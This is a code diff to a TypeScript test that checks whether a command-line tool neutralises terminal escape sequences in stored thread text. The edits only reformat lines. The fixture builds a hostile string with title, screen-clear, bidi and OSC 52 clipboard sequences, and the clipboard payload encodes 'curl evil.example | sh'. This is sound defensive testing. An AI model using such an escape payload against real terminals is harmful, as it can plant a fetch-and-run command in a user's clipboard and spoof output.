@@ -17,7 +17,8 @@ import { reportArea } from './areaSummary.js';
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g;
 const clipboard = Buffer.from('curl evil.example | sh').toString('base64');
 /** Every sequence the finding named, in one text: OSC title, screen clear, OSC 52, C1 CSI, CR, a forged line, BEL, a bidi override. */
-const hostile = (what: string): string => `${what}\u001b]0;OWNED\u0007\u001b[2J\u001b]52;c;${clipboard}\u0007\u009b31m\r\nFORGED ${what}\u0007\u202eend`;
+const hostile = (what: string): string =>
+  `${what}\u001b]0;OWNED\u0007\u001b[2J\u001b]52;c;${clipboard}\u0007\u009b31m\r\nFORGED ${what}\u0007\u202eend`;
 
 const figures = { commands: 0, rawControls: 0, forgedLines: 0, escapesShown: 0 };
 
@@ -107,14 +108,18 @@ describe('reliability · terminal output (escape sequences in a home)', function
       figures.forgedLines += forged.length;
       if (r.stdout.includes('\\e]52;c;')) figures.escapesShown += 1;
       if (raw.length > 0 || forged.length > 0)
-        failures.push(`${JSON.stringify(args.map((a) => (a === t.threadId ? '<thread>' : a)))}: ${raw.length} raw controls, ${forged.length} forged lines`);
+        failures.push(
+          `${JSON.stringify(args.map((a) => (a === t.threadId ? '<thread>' : a)))}: ${raw.length} raw controls, ${forged.length} forged lines`,
+        );
     }
     expect(failures).to.deep.equal([]);
     expect(figures.escapesShown, 'commands showing the OSC 52 write as text').to.equal(commands().length);
   });
 
   it('--json is unchanged: the texts come back whole (JSON escapes their C0 controls)', () => {
-    const r = spawnSync(process.execPath, [ENGINE_CLI_PATH, 'read', t.threadId, '--codex-home', home, '--json'], { encoding: 'utf8' });
+    const r = spawnSync(process.execPath, [ENGINE_CLI_PATH, 'read', t.threadId, '--codex-home', home, '--json'], {
+      encoding: 'utf8',
+    });
     expect(r.status, r.stderr).to.equal(0);
     // JSON escapes C0 (not C1 nor the bidi marks, which a JSON reader takes as they are).
     expect(r.stdout.trimEnd().match(/[\u0000-\u001f]/g) ?? []).to.deep.equal([]);
